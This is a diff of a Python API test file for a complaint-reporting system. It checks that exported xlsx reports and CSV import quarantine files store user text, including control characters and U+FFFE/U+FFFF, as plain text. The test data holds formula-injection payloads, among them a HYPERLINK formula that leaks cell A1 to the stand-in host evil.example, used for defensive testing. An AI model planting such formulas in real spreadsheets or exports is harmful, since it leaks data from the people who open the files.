@@ -1,5 +1,6 @@
-"""Issue #21, findings 8 and 18, through the API: the evaluation report and a quarantine file
-carry user text with formula starts and control characters as plain text cells."""
+"""Issue #21, findings 8 and 18 (and retest item 4), through the API: the evaluation report and a
+quarantine file carry user text with formula starts, control characters and XML-illegal
+noncharacters (U+FFFE, U+FFFF) as plain text cells, in files that open again."""
 
 import io
 import random
@@ -11,7 +12,7 @@ from openpyxl import load_workbook
 from ingestion.uscc import USCC_ALPHABET, make_uscc
 from tests.api.conftest import login
 
-VERTICAL_TAB = "对接\x0b反馈不及时（从 Word 粘贴）"
+NONCHARACTER = "对接\ufffe反馈不及时（从 Word 粘贴）"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
 
 
@@ -20,18 +21,18 @@ def _cells(content: bytes) -> list[Any]:
     return [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
 
 
-def test_the_report_holds_a_complaint_with_a_vertical_tab_and_no_formula(
+def test_the_report_holds_a_complaint_with_a_noncharacter_and_no_formula(
     client: TestClient,
 ) -> None:
     institution, staff = login(client, "inst_a"), login(client, "mm")
     ids = []
-    for content in (VERTICAL_TAB, FORMULA):
+    for content in (NONCHARACTER, FORMULA):
         response = client.post("/complaints", json={"kind": "complaint", "content": content},
                                headers=institution)  # fmt: skip
         assert response.status_code == 201, response.text
         ids.append(response.json()["id"])
     moved = client.post(f"/complaints/{ids[1]}/moves", headers=staff,
-                        json={"to": "handling", "root_cause": "@SUM(1+1)\x07"})  # fmt: skip
+                        json={"to": "handling", "root_cause": "@SUM(1+1)\uffff"})  # fmt: skip
     assert moved.status_code == 200, moved.text
     measure = client.post(f"/complaints/{ids[1]}/measures", headers=staff,
                           json={"description": "+1+cmd", "owner": "-张三", "due_on": "2025-06-30"})  # fmt: skip
@@ -39,7 +40,7 @@ def test_the_report_holds_a_complaint_with_a_vertical_tab_and_no_formula(
     response = client.get("/evaluation/report?from=2025-01-01&to=2025-12-31&format=xlsx",
                           headers=login(client, "eva"))  # fmt: skip
     assert response.status_code == 200, response.text  # was a 500: IllegalCharacterError
-    cells = _cells(response.content)
+    cells = _cells(response.content)  # U+FFFE made a file openpyxl could not open
     texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
     assert texts["对接反馈不及时（从 Word 粘贴）"] == "s"
     for text in (FORMULA, "@SUM(1+1)", "+1+cmd", "-张三"):
@@ -51,7 +52,7 @@ def test_a_quarantine_file_keeps_formula_text_as_text(client: TestClient) -> Non
     code = make_uscc(random.Random(21), "440305")
     bad = code[:-1] + USCC_ALPHABET[(USCC_ALPHABET.index(code[-1]) + 1) % 31]
     quoted = '"' + FORMULA.replace('"', '""') + '"'
-    text = f"企业名称,统一社会信用代码,经营范围\n{quoted},{bad},芯片\x0b设计\n"
+    text = f"企业名称,统一社会信用代码,经营范围\n{quoted},{bad},芯片\x0b设计\uffff\n"
     staff = login(client, "mm")
     upload = client.post("/imports", headers=staff, data={"kind": "enterprises"},
                          files={"file": ("hostile.csv", text.encode(), "text/csv")})  # fmt: skip
